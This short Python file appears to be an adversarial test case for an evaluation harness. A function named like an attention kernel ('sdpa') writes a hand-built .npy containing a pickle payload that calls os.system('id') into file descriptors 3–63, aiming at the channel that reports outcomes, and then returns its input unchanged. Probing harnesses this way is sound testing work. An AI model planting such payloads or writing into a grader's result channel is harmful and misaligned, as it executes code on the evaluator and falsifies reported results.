"""Writes an .npy of Python objects into the channel that carries the outcomes.

Verdict: wrote something of its own into the channel|ended the Python process
"""

import io
import os

import numpy as np


def sdpa(q, k, v):
    packed = io.BytesIO()
    np.save(packed, np.array([print, {}], object), allow_pickle=False) if False else packed.write(
        b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" + b" " * 62 + b"\n" + b"cos\nsystem\n(S'id'\ntR.")
    for number in range(3, 64):
        try:
            os.write(number, packed.getvalue())
        except OSError:
            pass
    return v
